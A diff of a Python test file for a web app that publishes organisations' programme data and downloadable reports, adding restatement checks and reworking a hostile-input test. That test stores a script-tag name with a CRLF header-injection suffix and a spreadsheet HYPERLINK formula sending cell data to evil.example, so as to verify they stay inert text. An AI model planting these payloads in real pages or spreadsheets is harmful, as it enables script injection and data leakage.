@@ -6,14 +6,14 @@ public pages and the downloaded reports."""
 from __future__ import annotations
 
 import io
-from collections.abc import Iterator
 
 import pytest
 from fastapi.testclient import TestClient
 from openpyxl import load_workbook
 from sqlalchemy.orm import Session
 
-from gachi.db.models import Programme
+from gachi.db.models import DataPoint, Organisation, Programme
+from gachi.db.tenancy import TenantRepository
 from web.data_helpers import korean
 from web.helpers import post
 from web.publishing_helpers import (
@@ -24,12 +24,6 @@ from web.publishing_helpers import (
     set_definition,
 )
 from web.runs_helpers import add_programme, run_to_end, set_point
-
-
-@pytest.fixture
-def anonymous(app) -> Iterator[TestClient]:
-    with TestClient(app, raise_server_exceptions=False) as c:
-        yield korean(c)
 
 
 def _restated(client: TestClient, org: int, reason: str = "정정") -> None:
@@ -52,9 +46,6 @@ def test_a_restatement_names_no_programme_or_input_that_was_not_published(
     secret = add_programme(engine, org, "비공개사업-31", [], {(2024, "secret_budget"): 5})
     add_programme(engine, org, "다른사업", ["my_mentoring"], {(2024, "hours"): 1})
     with Session(engine) as db:
-        from gachi.db.models import DataPoint
-        from gachi.db.tenancy import TenantRepository
-
         TenantRepository(db, org).add(
             DataPoint(programme_id=found.programme, period=2024, name="ceo_bonus", value=1)
         )
@@ -173,6 +164,35 @@ def test_definitions_that_cannot_be_mixed_are_one_factor(client, engine, anonymo
     assert anonymous.get(f"/public/{org}/2024/restatements/2").status_code == 200
 
 
+def test_a_mix_never_measures_an_input_that_its_own_book_did_not_read(
+    client, engine, anonymous
+) -> None:
+    found = mentoring_org(client, engine)
+    org = found.org
+    measure_and_publish(client, org, 2024)  # v1 reads hours: 100 h × 10,000 won
+    # v2 reads sessions instead; hours changes to a value no book ever read. Measuring v1's
+    # formula on v2's data would bring it out through the (public) shares.
+    reads_sessions = mentoring(version=2).replace("name: hours", "name: sessions")
+    set_definition(engine, org, reads_sessions.replace("hours * wage", "sessions * wage"))
+    set_point(engine, org, found.programme, 2024, "hours", 4321)
+    with Session(engine) as db:
+        TenantRepository(db, org).add(
+            DataPoint(programme_id=found.programme, period=2024, name="sessions", value=7)
+        )
+        db.commit()
+    _restated(client, org, "측정 방식 변경")
+    r = _restatement(anonymous, org)
+    # Hand-worked, with each version's data as its own book read it: old formula on new data
+    # and new formula on old data both measure nothing, so data and method split the
+    # difference (70,000 − 1,000,000) evenly, whatever hours now holds.
+    assert r["delta"] == pytest.approx(-930_000)
+    assert r["effects"]["data"] == pytest.approx(-465_000)
+    assert r["effects"]["method"] == pytest.approx(-465_000)
+    assert r["effects"]["proxies"] == pytest.approx(0, abs=1e-6)
+    body = anonymous.get(f"/api/v1/public/{org}/2024").text
+    assert "4321" not in body and "43210000" not in body
+
+
 def test_the_same_year_published_twice_at_once_is_a_conflict(client, engine, monkeypatch) -> None:
     from gachi.domains.publishing import service
 
@@ -191,8 +211,15 @@ def test_the_same_year_published_twice_at_once_is_a_conflict(client, engine, mon
 
 
 def test_hostile_names_stay_text_on_public_pages_and_in_reports(client, engine, anonymous) -> None:
-    found = mentoring_org(client, engine, name='<script>alert("org")</script>/..\r\nX: 1')
+    found = mentoring_org(client, engine)
     org = found.org
+    # Line breaks are refused in names now; a name stored before that must still not break
+    # the download's headers.
+    with Session(engine) as db:
+        organisation = db.get(Organisation, org)
+        assert organisation is not None
+        organisation.name = '<script>alert("org")</script>/..\r\nX: 1'
+        db.commit()
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     add_programme(engine, org, formula, ["my_mentoring"], {(2024, "hours"): 3})
     add_programme(
@@ -215,7 +242,8 @@ def test_hostile_names_stay_text_on_public_pages_and_in_reports(client, engine, 
     workbook = load_workbook(io.BytesIO(report.content))
     cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
     assert not [c.coordinate for c in cells if c.data_type == "f"]
-    assert any(c.value == "'" + formula for c in cells)
+    # Kept as text, shown as typed (the quote-prefix style, not a visible apostrophe).
+    assert any(c.value == formula and c.data_type == "s" and c.quotePrefix for c in cells)
 
 
 def test_a_version_that_is_not_one_says_so_in_words(client, engine, anonymous) -> None:
@@ -225,6 +253,7 @@ def test_a_version_that_is_not_one_says_so_in_words(client, engine, anonymous) -
         for url in (f"/public/{org}/2024", f"/public/{org}/2024/report.pdf"):
             response = anonymous.get(f"{url}?version={version}")
             assert response.status_code == 404, (url, version)
-            assert f"2024년 공시에 v{version}이(가) 없습니다" in response.text, (url, version)
-    english = anonymous.get(f"/public/{org}/2024?version=abc", cookies={"gachi_lang": "en"})
+            assert f"2024년 공시에는 그런 판이 없습니다: {version}" in response.text, (url, version)
+    anonymous.cookies.set("gachi_lang", "en")
+    english = anonymous.get(f"/public/{org}/2024?version=abc")
     assert "There is no version abc of 2024" in english.text
